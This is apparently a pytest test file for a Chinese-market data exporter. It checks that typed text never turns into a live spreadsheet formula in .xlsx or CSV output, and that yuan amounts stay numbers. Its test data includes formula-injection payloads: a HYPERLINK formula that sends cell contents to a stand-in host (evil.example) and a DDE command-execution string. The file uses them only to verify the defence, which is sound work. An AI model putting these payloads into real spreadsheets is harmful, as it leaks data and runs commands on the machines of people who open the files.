"""The one exporter (huiqi.exports): typed text never becomes a formula, in .xlsx or CSV; money stays a ¥ number.

The web exports are tested end to end in tests/web/test_export_injection.py; here the rules themselves, the
screening workbook and CSVs (written from DuckDB).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import duckdb
import pytest
from openpyxl import load_workbook

from huiqi import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0",
]
HARMLESS = ["普通文本", "a=b", "1+1", "", "—破折号", "¥100"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_xlsx_and_quoted_in_csv(text):
    cells = _cells(exports.table("t", ["h"], [[text]]))
    shown = cells[1].value.replace("\n", "\r") if text.startswith("\r") else cells[1].value  # XML reads CR as LF
    assert cells[1].data_type == "s" and shown == text  # shown as typed, never evaluated
    assert cells[1].quotePrefix  # and stays text when someone edits it in Excel
    assert exports.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert exports.csv_text(text) == text
    cells = _cells(exports.table("t", ["h", "i"], [[text, 1]]))
    assert cells[2].value == (text or None) and not cells[2].quotePrefix


def test_numbers_stay_numbers_with_the_yuan_format_and_dates_stay_dates():
    cells = _cells(exports.table("t", ["a", "b", "c", "d"], [[exports.yuan(123456789), -5, dt.date(2024, 3, 28), None]]))
    money, negative, day, empty = cells[4:]
    assert money.data_type == "n" and Decimal(str(money.value)) == Decimal("1234567.89")
    assert money.number_format == exports.YUAN_FORMAT
    assert negative.value == -5 and negative.data_type == "n"
    assert day.is_date and day.number_format == exports.DATE_FORMAT
    assert empty.value is None


def test_control_characters_and_overlong_text_still_make_a_workbook():
    cells = _cells(exports.table("t", ["h"], [["a\x01b"], ["x" * 40_000]]))
    assert cells[1].value == "a\ufffdb"
    assert len(cells[2].value) == exports.MAX_CELL_CHARS


def test_csv_neutralises_text_but_not_numbers(tmp_path):
    path = tmp_path / "out.csv"
    exports.write_csv_file(path, ["名称", "金额"], [[t, -100] for t in HOSTILE])
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows[0] == ["名称", "金额"]
    for (name, amount), text in zip(rows[1:], HOSTILE):
        assert name == "'" + text and amount == "-100"


def test_the_screening_workbook_and_csvs_from_duckdb(tmp_path):
    from huiqi.batch.workbook import _sheet

    con = duckdb.connect()
    con.execute("CREATE TABLE t AS SELECT * FROM (VALUES ('=1+1', 12345, 'eligible'), ('@x', 5, 'expired')) v(主体编号, 金额_分, 状态)")
    wb = exports.new_workbook(write_only=True)
    assert _sheet(wb, "明细", con, "SELECT * FROM t") == 2
    wb.save(tmp_path / "s.xlsx")
    ws = load_workbook(tmp_path / "s.xlsx")["明细"]
    assert [c.value for c in ws[1]] == ["主体编号", "金额（元）", "状态"]
    first = ws[2]
    assert first[0].value == "=1+1" and first[0].data_type == "s"
    assert Decimal(str(first[1].value)) == Decimal("123.45") and first[1].number_format == exports.YUAN_FORMAT
    assert first[2].value == "符合" and ws[3][2].value == "已过期"
    assert exports.query_to_csv(con, "SELECT * FROM t", tmp_path / "r.csv") == 2
    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8")))
    assert rows[1] == ["'=1+1", "12345", "eligible"] and rows[2][0] == "'@x"


def test_no_other_module_writes_a_spreadsheet_or_a_csv():
    """One writer (huiqi/exports.py): a new export elsewhere would skip the formula rule."""
    import re
    from pathlib import Path

    root = Path(exports.__file__).parent
    pattern = re.compile(r"\bWorkbook\(|WriteOnlyCell\(|csv\.(writer|DictWriter)\(|COPY \(.*\bCSV\b|TO [^\n]*\.csv")
    offenders = [f"{p.relative_to(root)}:{n}" for p in root.rglob("*.py") if p.name != "exports.py"
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert offenders == []
